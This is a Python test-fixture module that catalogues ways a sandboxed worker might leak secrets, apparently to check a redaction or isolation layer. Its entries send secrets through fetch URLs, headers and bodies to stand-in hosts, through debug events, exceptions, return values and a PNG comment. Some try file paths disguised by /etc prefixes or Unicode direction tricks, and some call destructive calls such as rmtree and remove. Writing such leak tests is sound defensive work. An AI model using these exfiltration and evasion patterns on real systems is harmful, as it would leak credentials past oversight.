"""The ways out of a worker, each as a body that leaks a secret: `key`, `number` and `word` hold one each.

`ask(name, arguments)` is a request as the channel carries it. Bodies that raise or return come last.
"""

NUMBER = "4071823365"
WORD = "qzvkwjxpa_token7"  # can be a name, a host, a path
MIXED = "QzVkwJxpa9Token7"
OTHER = "other-SECRET/of=inner"


def _tried(*calls: str, before: str = "if True:") -> str:
    """Return a body that makes each call with each secret, in several forms, as the `name`."""
    tries = [
        f"        try:\n            {call}\n        except Exception:\n            pass"
        for call in calls
    ]
    return "\n".join(
        [
            "import os, pathlib",
            "names, places = [key, word, self.secret('MIXED')], ['b', 'out/b']",
            "forms = ('out/%s', './/%s/', '/srv/%s/x', '/etc/%s', '~/%s', '%s' + chr(0x202E), '%s.txt')",
            "names += [form % name for form in forms for name in names]",
            f"for at, name in enumerate(names):\n    {before}",
            *tries,
        ]
    )


REQUESTS = {
    "progress-note": 'self.progress(1, 2, "at " + key)',
    "progress-numbers": "self.progress(int(number), float(number))",
    "progress-number-as-text": 'ask("progress", {"done": 1, "total": number, "note": key})',
    "progress-more-fields": 'ask("progress", {"done": 1, key: key, "note": [key, {key: key.encode()}]})',
    "memory-append": 'self.memory.append("human", "the key is " + key)',
    "memory-write": 'self.memory.write("human", key + " " + word)',
    "memory-replace": 'self.memory.append("human", "put it here")\nself.memory.replace("human", "put it here", key)',
    "memory-label": "self.memory.append(word, key)",
    "memory-pieces": 'self.memory.write("human", word[:8])\n'
    'self.memory.replace("human", word[:8], word[:8] + "-" + word[8:])\n'
    'self.memory.replace("human", "-", "")',
    "memory-pieces-in-lines": 'self.memory.write("human", "\\n".join([word[:8], word[8:]]))\n'
    'self.memory.replace("human", "\\n", "")',
    "call-arguments": 'self.call("shout", text={"a": [key, int(number), {word: key.encode()}]})',
    "call-name": "self.call(word, text=key)",
    "call-argument-names": 'self.call("shout", **{word: key})',
    "call-of-another-with-a-secret": 'print(self.call("inner"))',
    "fetch-path": 'self.fetch("http://HOST/" + word + "?q=" + word, headers={"X-Key": word}, method="POST", body=word)',
    "fetch-host-that-is-not-granted": 'self.fetch("https://" + word.replace("_", "-") + ".example.org/")\n'
    'self.fetch("https://" + word + ".example.org/")',
    "fetch-host-in-another-case": 'self.fetch("https://" + word.upper() + ".example.org/")',
    "fetch-of-a-wild-grant": 'self.fetch("http://" + word.upper() + ".wild.invalid/")',
    "fetch-host-that-is-made-small": 'self.fetch("http://" + self.secret("MIXED") + ".wild.invalid/")\n'
    'self.fetch("http://" + self.secret("MIXED") + ".example.org/")',
    "fetch-method": 'self.fetch("http://HOST/", method=word)',
    "fetch-read": 'ask("fetch_read", {"stream": int(number), "size": 1})',
    "fetch-send": 'ask("fetch_send", {"data": key.encode()})',
    "fetch-close": 'ask("fetch_close", {"stream": key})',
    "secret-name": "self.secret(word)",
    "now-with-arguments": 'ask("now", {"zone": key})',
    "call-key-with-arguments": 'ask("call_key", {"of": key})',
    "state-value": 'self.state[word] = [key, "number " + number]\nself.keep_state()',
    "ask-question": 'self.ask("Is it " + key + "?", default=word, after=0)',
    "ask-choices": 'ask("ask", {"question": word, "choices": [key, word], "default": key, "after": 0, key: word})',
    "ask-type": 'ask("ask", {"question": "How many?", "type": word, "default": number, "after": int(number)})',
    "ask-default": 'ask("ask", {"question": "How many?", "type": "int", "default": number, "after": 0})',
    "a-request-of-no-verb": 'ask(word, {word: key, "number": int(number)})',
    "debug-record": 'ask("debug", {"event": "record", "id": 0, "hits": int(number), "path": word, "line": int(number),'
    ' "function": word, "locals": [[word, key]], "shown": [[key, word]]})',
    "debug-traced": 'ask("debug", {"event": "traced", "rows": [[word, int(number), word, 1, [[word, key]], []]],'
    ' "lines": [int(number)]})',
    "debug-stopped": 'ask("debug", {"event": "stopped", "why": key, "id": 0, "frames": [[word, int(number), word]],'
    ' "locals": [[word, key]], "arguments": 1, "names": [word], "shown": [], "value": key, "error": key})',
    "debug-answered": 'ask("debug", {"event": "answered", "text": key})',
    "debug-of-no-event": 'ask("debug", {"event": word, word: key})',
    "a-module": "import importlib\nimportlib.import_module('functions.' + word)",
    "a-name-of-a-file": "import pathlib\nplace = pathlib.Path('out', word)\nplace.mkdir(exist_ok=True)\n"
    "for name in ('objects', 'refs'):\n    (place / name).mkdir(exist_ok=True)\n(place / 'HEAD').touch()",
    "file-open": _tried(
        "open(name)", "open(name, 'w')", "open(name, 'a+')", "os.open(name, os.O_RDWR | os.O_CREAT)"
    ),
    "file-look": _tried(
        "os.stat(name)",
        "os.lstat(name)",
        "os.listdir(name)",
        "[*os.walk(name)]",
        "pathlib.Path(name).exists()",
    ),
    "file-change": _tried(
        "os.chdir(name)",
        "os.chmod(name, 0o600)",
        "os.mkdir(name)",
        "os.makedirs(name + '/a/b')",
        "os.remove(name)",
        "os.rmdir(name)",
        "os.rename(name, places[0])",
        "os.rename(places[0], name)",
        "os.replace(places[1], name)",
        "os.link(name, places[1])",
        "os.link(places[1], name)",
        "os.symlink(name, places[1])",
        "os.symlink(places[0], name)",
        "os.truncate(name, 3)",
        "os.utime(name)",
        "os.chown(name, 0, 0)",
    ),
    "file-link": _tried(
        "(os.symlink(os.path.abspath(name), 'out/' + str(at)), open('out/' + str(at)).read())"
    ),
    "file-places": 'ask("file_places", {"path": key, word: key})',
    "file-of-an-open-one": "for name in ('read', 'write', 'size', 'truncate'):\n    try:\n"
    '        ask("file_" + name, {"stream": int(number), "data": key.encode(), "size": word, "at": key})\n'
    "    except Exception as error:\n        print(error)",
    "file-of-a-library": "import configparser, glob, linecache, logging, mimetypes, shutil\n"
    "import sqlite3, tempfile, zipfile\n"
    + _tried(
        "[*glob.glob(name + '/*')]",
        "linecache.getlines(name)",
        "mimetypes.init([name])",
        "shutil.copytree(name, places[0])",
        "shutil.copy(places[1], name)",
        "shutil.rmtree(name)",
        "sqlite3.connect(name)",
        "zipfile.ZipFile(name, 'w')",
        "tempfile.mkdtemp(dir=name)",
        "tempfile.NamedTemporaryFile(prefix=name)",
        "shutil.disk_usage(name)",
        "configparser.ConfigParser().read_file(open(name))",
        "logging.FileHandler(name)",
        "pathlib.Path(name).write_text('x')",
        "__import__(name)",
        "os.execv(name, [name])",
    ),
    "file-from-code-without-a-source": _tried(
        "eval(compile('os.listdir(name)', name, 'eval'))",
        "eval(compile('os.stat(name)', '<x>', 'eval'))",
        "exec('open(name)', {'open': open, 'name': name})",
    ),
    "file-request-made-by-hand": _tried(
        *(
            f"ask('{verb}', {{'path': name, 'mode': 'r', 'kind': kind, 'act': ['rename', name], 'is_try': is_try}})"
            for verb in ("file_open", "file_stat", "file_list", "file_change")
        ),
        before="for kind, is_try in [(a, b) for a in ('enter', 'names', 'marks', 'folder') for b in (True, False)]:",
    ),
    "fetch-host-beyond-ascii": _tried(
        "self.fetch('https://' + name + '.example.org/')",
        "self.fetch('https://x\u00fc' + name + '/')",
        "self.fetch('http://' + name + '.wild.invalid/')",
        "self.fetch('http://wild.invalid:' + name)",
    ),
    "a-thread-a-warning-and-a-log": "import logging, sys, threading, warnings\nwarnings.warn(key)\n"
    "logging.error('%s', {word: key.encode()})\nsys.stderr.write(key)\n"
    "thread = threading.Thread(target=lambda: 1 / 0, name=key)\nthread.start()\nthread.join()",
    "an-attribute": "import atexit\nself.call.__func__.__dict__[word] = key\nleak.__doc__ = key\n"
    "leak.__name__ = word\nsetattr(leak, word, key)\natexit.register(print, key)",
}
"""Requests, by what they leak; each can be made before the call ends."""

_PICTURE = (
    "import struct, zlib\n"
    "size = lambda number: struct.pack('>I', number)\n"
    "part = lambda kind, body: size(len(body)) + kind + body + size(zlib.crc32(kind + body))\n"
    "picture = b'\\x89PNG\\r\\n\\x1a\\n' + part(b'IHDR', struct.pack('>IIBBBBB', 1, 1, 8, 0, 0, 0, 0))\n"
    "picture += part(b'tEXt', b'Comment\\0' + key.encode() + b' ' + word.encode())\n"
    "picture += part(b'IDAT', zlib.compress(bytes(2))) + part(b'IEND', b'')\n"
)
ENDS = {
    "printed": 'print("printed", key, number, word, flush=True)',
    "printed-in-pieces": 'print(key[:13], end="")\nprint(key[13:], flush=True)\nprint(word)',
    "raised-at-the-exit": "import sys\nsys.exit(key)",
    "raised-of-a-refused-file": "import os\nos.chdir(key)",
    "raised-of-a-refused-file-that-is-read": "return open(word).read()",
    "raised-after-a-refused-file": "import os\ntry:\n    os.chdir(key)\nexcept OSError:\n    pass\n"
    "raise ValueError('no')",
    "returned-nested": "return {key: [number, (word, {key.encode()}), int(number)]}",
    "returned-number": "return [int(number), float(number), -int(number)]",
    "returned-as-bytes-whose-base64-it-is": "return base64.b64decode(word.replace('_', '/')[:16]), word",
    "returned-picture": f"{_PICTURE}return [picture, {{word: picture}}]",
    "returned-picture-that-is-kept-as-a-large-value": f"{_PICTURE}return picture + bytes(200_000)",
    "raised": "raise type(word, (ValueError,), {})(key)",
    "raised-with-a-cause": "try:\n    raise KeyError(key)\nexcept KeyError as error:\n"
    "    raise ValueError(number) from error",
    "raised-locals": "held = {word: key}\nraise ValueError('no')",
    "a-frame-with-a-line": 'exec(compile("\\n" * (int(number) % 99991) + "raise ValueError(1)", word, "exec"))',
    "left": "import os\nprint(key, flush=True)\nos._exit(3)",
    "a-reply-of-no-shape": 'self._channel.say({"kind": word, "value": key})\nimport os\nos._exit(0)',
    "a-reply-refused": 'self._channel.say({"kind": "refused", "reason": key + word})\nimport os\nos._exit(0)',
    "a-reply-with-a-tag": 'self._channel.say({"kind": "returned", "value": {"$": word, "v": key}, "shown": key})'
    "\nimport os\nos._exit(0)",
    "a-reply-raised": 'self._channel.say({"kind": "raised", "type": word, "message": key, "frames":'
    ' [[word, int(number), word, [[word, key]]]], "cause": {"type": key, "message": word, "frames":'
    ' [["functions/in_leak.py", int(number), "leak", [[key, key]]]]}, "was_handling": True})'
    "\nimport os\nos._exit(0)",
}
"""Ends of the call."""

WAYS = {**REQUESTS, **ENDS}
